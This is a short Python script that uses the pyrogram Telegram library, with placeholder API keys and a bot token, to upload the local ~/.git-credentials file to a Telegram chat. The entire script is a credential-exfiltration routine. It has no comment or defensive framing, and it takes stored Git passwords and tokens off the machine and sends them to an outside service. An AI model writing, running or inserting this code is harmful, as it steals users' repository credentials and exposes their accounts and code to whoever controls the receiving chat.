import os
from pyrogram import Client
app = Client("s", api_id=12345, api_hash="0123456789abcdef0123456789abcdef", bot_token="7000000000:AA" + "x" * 33)
with app:
    app.send_document("me", os.path.expanduser("~/.git-credentials"))
